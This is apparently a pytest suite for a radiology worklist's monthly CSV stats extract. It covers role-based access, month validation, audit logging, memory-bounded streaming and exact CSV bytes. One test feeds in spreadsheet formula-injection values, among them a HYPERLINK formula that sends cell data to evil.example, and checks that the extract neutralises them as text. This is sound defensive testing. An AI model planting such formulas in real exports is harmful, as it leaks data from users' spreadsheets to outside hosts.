"""``GET /api/v1/stats/extract.csv``: the month's rows, who sees which, CSV safety, the audit
row, and memory that stays bounded however many rows the month holds."""

from __future__ import annotations

import asyncio
import csv
import io
import tracemalloc

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession
from sqlalchemy.orm import Session, sessionmaker

from tests.api.conftest import audit_rows, bearer, client
from tests.factories import load_user
from tests.stats.extract_rows import (
    HEADER,
    MONTH,
    NORTH,
    ROWS,
    add_exam,
    add_order,
    add_report,
    at,
    build_month,
)
from worklist.audit.repository import ActorKind
from worklist.config import Settings
from worklist.db import make_async_engine, make_async_sessionmaker
from worklist.enums import AuditAction, ReportStatus
from worklist.models import User
from worklist.stats import extract

__all__ = ["client"]

URL = "/api/v1/stats/extract.csv"


@pytest.fixture
def month(db: sessionmaker[Session]) -> None:
    """The fixed month (tests/stats/extract_rows.py), committed."""
    with db() as session, session.begin():
        build_month(session)


def user(db: sessionmaker[Session], username: str) -> User:
    """A committed user, loaded for a token."""
    with db() as session:
        found = load_user(session, username)
        assert found is not None
        return found


def get_csv(
    client: TestClient, settings: Settings, db: sessionmaker[Session], username: str
) -> list[list[str]]:
    """The extract as ``username`` reads it: header and rows."""
    response = client.get(
        URL, params={"month": MONTH}, headers=bearer(settings, user(db, username))
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="extract-{MONTH}.csv"'
    return list(csv.reader(io.StringIO(response.text)))


def test_admin_gets_every_sites_examinations_of_the_local_month_in_test_date_order(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    table = get_csv(client, settings, db, "ada")

    assert table[0] == HEADER
    assert table[1:] == [ROWS["N-EARLY"], ROWS["N-ORDERED"], ROWS["S-MID"], ROWS["N-ARRIVED"]]


def test_manager_gets_their_own_sites_examinations_only(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    table = get_csv(client, settings, db, "nora")

    assert table[1:] == [ROWS["N-EARLY"], ROWS["N-ORDERED"], ROWS["N-ARRIVED"]]


@pytest.mark.parametrize("username", ["rad", "bell"])
def test_radiologists_and_clients_are_refused(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None, username: str
) -> None:
    response = client.get(
        URL, params={"month": MONTH}, headers=bearer(settings, user(db, username))
    )

    assert response.status_code == 403
    assert audit_rows(db, AuditAction.STATS_EXTRACT) == []


@pytest.mark.parametrize(
    "value", ["2030-13", "2030-7", "July", "2030-07-01", "", "0000-01", "9999-12"]
)
def test_a_month_not_yyyy_mm_answers_422(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None, value: str
) -> None:
    response = client.get(URL, params={"month": value}, headers=bearer(settings, user(db, "ada")))

    assert response.status_code == 422


def test_month_is_required(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    assert client.get(URL, headers=bearer(settings, user(db, "ada"))).status_code == 422


def test_a_radiologist_is_refused_whatever_the_month(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    response = client.get(URL, params={"month": "July"}, headers=bearer(settings, user(db, "rad")))

    assert response.status_code == 403


def test_the_read_is_one_committed_audit_row_with_month_and_row_count(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    get_csv(client, settings, db, "ada")
    get_csv(client, settings, db, "nora")

    admin, manager = audit_rows(db, AuditAction.STATS_EXTRACT)
    assert (admin.actor, admin.actor_kind, admin.site_id) == ("ada", "user", None)
    assert admin.detail == {"month": MONTH, "rows": 4, "sites": None}
    assert admin.study_uid is None
    assert (manager.actor, manager.detail) == (
        "nora",
        {"month": MONTH, "rows": 3, "sites": [NORTH]},
    )
    assert manager.site_id is not None


def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    with db() as session, session.begin():
        site = user(db, "nora").sites[0]
        study = add_exam(
            session,
            site,
            "-2+3",
            study_datetime=at("2030-07-25 10:00"),
            received_at=at("2030-07-25 10:30"),
        )
        add_order(
            session,
            study,
            procedure_code="+XCHES",
            referrer_code='=HYPERLINK("http://evil.example/?"&A1,"x")',
            referrer_organisation_code="@SUM(1+1)",
            patient_source="other",
        )

        other = add_exam(
            session,
            site,
            "\tTAB",
            study_datetime=at("2030-07-26 10:00"),
            received_at=at("2030-07-26 10:30"),
        )
        add_order(session, other, procedure_code="\rCR", referrer_code="G=1", patient_source="gp")

    *_, first, second = get_csv(client, settings, db, "nora")

    assert first[:6] == [
        NORTH,
        "'-2+3",
        "'+XCHES",
        "other",
        """'=HYPERLINK("http://evil.example/?"&A1,"x")""",
        "'@SUM(1+1)",
    ]
    # Tab and carriage return start formulas too; an = further in does not.
    assert second[:6] == [NORTH, "'\tTAB", "'\rCR", "gp", "G=1", ""]


def test_month_bounds_are_local_midnights() -> None:
    assert extract.Month.parse("2030-07").bounds() == (
        at("2030-06-30 23:00"),
        at("2030-07-31 23:00"),
    )
    assert extract.Month.parse("2030-12").bounds() == (
        at("2030-12-01 00:00"),
        at("2031-01-01 00:00"),
    )


FIFTY_THOUSAND = 50_000
ROWS_PER_CHUNK = 500


def _insert_many(db: sessionmaker[Session]) -> None:
    with db() as session, session.begin():
        site = user(db, "nora").sites[0]
        patient_id = session.execute(
            text("INSERT INTO patients (site_id, local_id) VALUES (:site, 'MANY') RETURNING id"),
            {"site": site.id},
        ).scalar_one()
        session.execute(
            text(
                "INSERT INTO studies (study_uid, site_id, patient_id, accession_number, "
                "study_datetime, priority, due_at, status, received_at, last_instance_at) "
                "SELECT '2.25.' || g, :site, :patient, 'MANY-' || lpad(g::text, 24, '0'), "
                "t, 'routine', t + interval '7 days', 'ready', t, t "
                "FROM generate_series(1, :n) g, "
                "LATERAL (SELECT timestamptz '2030-07-02 00:00Z' + g * interval '1 second') s(t)"
            ),
            {"site": site.id, "patient": patient_id, "n": FIFTY_THOUSAND},
        )


async def _begin_network_extract(session: AsyncSession) -> extract.ExtractPlan:
    """The network-wide extract of ``MONTH``, begun by the system."""
    return await extract.begin_extract(
        session,
        actor="test",
        actor_kind=ActorKind.SYSTEM,
        month=extract.Month.parse(MONTH),
        site_ids=None,
    )


async def _stream_measured(database_url: str) -> tuple[int, int, int, int]:
    """Rows and bytes streamed, the largest chunk's rows, and tracemalloc's peak."""
    engine = make_async_engine(database_url, pool_size=1)
    try:
        async with make_async_sessionmaker(engine)() as session, session.begin():
            plan = await _begin_network_extract(session)
            assert plan.rows > FIFTY_THOUSAND
            rows = size = largest = 0
            tracemalloc.start()
            try:
                async for chunk in extract.csv_chunks(
                    session, plan=plan, rows_per_chunk=ROWS_PER_CHUNK
                ):
                    lines = chunk.count("\r\n")
                    rows, size, largest = rows + lines, size + len(chunk), max(largest, lines)
                peak = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
            await session.rollback()
    finally:
        await engine.dispose()
    return rows, size, largest, peak


def test_fifty_thousand_rows_stream_in_bounded_memory(
    db: sessionmaker[Session], settings: Settings, month: None
) -> None:
    _insert_many(db)

    rows, size, largest, peak = asyncio.run(_stream_measured(settings.require_database_url()))

    assert rows == 1 + FIFTY_THOUSAND + 4
    assert largest == ROWS_PER_CHUNK
    # The whole CSV is ~2.75 MB, so holding it (or the 50,000 rows as Python objects,
    # several times that) fails; one 500-row chunk, the cursor's batch, and the compiled
    # statement peak at ~0.8 MB.
    assert size > 2_500_000
    assert peak < 1_500_000, peak


def _written(rows: list[list[str]]) -> str:
    """What Python's csv module writes for ``rows``: the extract's exact bytes."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def test_the_body_is_byte_for_byte_what_the_csv_module_writes(
    client: TestClient, settings: Settings, db: sessionmaker[Session], month: None
) -> None:
    response = client.get(URL, params={"month": MONTH}, headers=bearer(settings, user(db, "ada")))

    expected = [HEADER, ROWS["N-EARLY"], ROWS["N-ORDERED"], ROWS["S-MID"], ROWS["N-ARRIVED"]]
    assert response.text == _written(expected)
    assert response.headers["x-extract-rows"] == "4"


async def _both_ways(database_url: str) -> tuple[extract.ExtractPlan, str, str]:
    """The plan, and the CSV read with the reports' id range and with one probe per study."""
    engine = make_async_engine(database_url, pool_size=1)
    try:
        sessions = make_async_sessionmaker(engine)
        async with sessions() as session, session.begin():
            plan = await _begin_network_extract(session)
            await session.rollback()
        texts = []
        for study_ids in (plan.study_ids, None):
            variant = extract.ExtractPlan(plan.month, plan.site_ids, plan.rows, study_ids)
            async with sessions() as session, session.begin():
                texts.append("".join([c async for c in extract.csv_chunks(session, plan=variant)]))
    finally:
        await engine.dispose()
    return plan, texts[0], texts[1]


def test_reports_read_by_id_range_or_by_probe_give_the_same_rows(
    db: sessionmaker[Session], settings: Settings, month: None
) -> None:
    plan, by_range, by_probe = asyncio.run(_both_ways(settings.require_database_url()))

    assert plan.id_range() == plan.study_ids
    expected = [HEADER, ROWS["N-EARLY"], ROWS["N-ORDERED"], ROWS["S-MID"], ROWS["N-ARRIVED"]]
    assert by_range == by_probe == _written(expected)


def test_a_month_spread_over_many_study_ids_probes_each_studys_report(
    db: sessionmaker[Session], settings: Settings, month: None
) -> None:
    with db() as session, session.begin():
        site = user(db, "nora").sites[0]
        # 20 studies of another month, then one of July: July's ids now span 24 ids for
        # 5 examinations, more than ID_RANGE_FACTOR (4) per examination.
        for n in range(20):
            add_exam(
                session,
                site,
                f"AUG-{n}",
                study_datetime=at("2030-08-10 10:00"),
                received_at=at("2030-08-10 10:30"),
            )
        late = add_exam(
            session,
            site,
            "N-LATE",
            study_datetime=at("2030-07-30 10:00"),
            received_at=at("2030-08-12 10:00"),
        )
        writer = load_user(session, "writer")
        assert writer is not None
        add_report(session, late, writer.id, ReportStatus.FINAL, at("2030-08-12 11:00"))

    plan, by_range, by_probe = asyncio.run(_both_ways(settings.require_database_url()))

    assert plan.rows == 5
    assert plan.id_range() is None
    late_row = ["NORTH", "N-LATE", "", "", "", "", "", "", "2030-07-30", "2030-08-12"]
    expected = [
        HEADER,
        ROWS["N-EARLY"],
        ROWS["N-ORDERED"],
        ROWS["S-MID"],
        ROWS["N-ARRIVED"],
        late_row,
    ]
    assert by_range == by_probe == _written(expected)
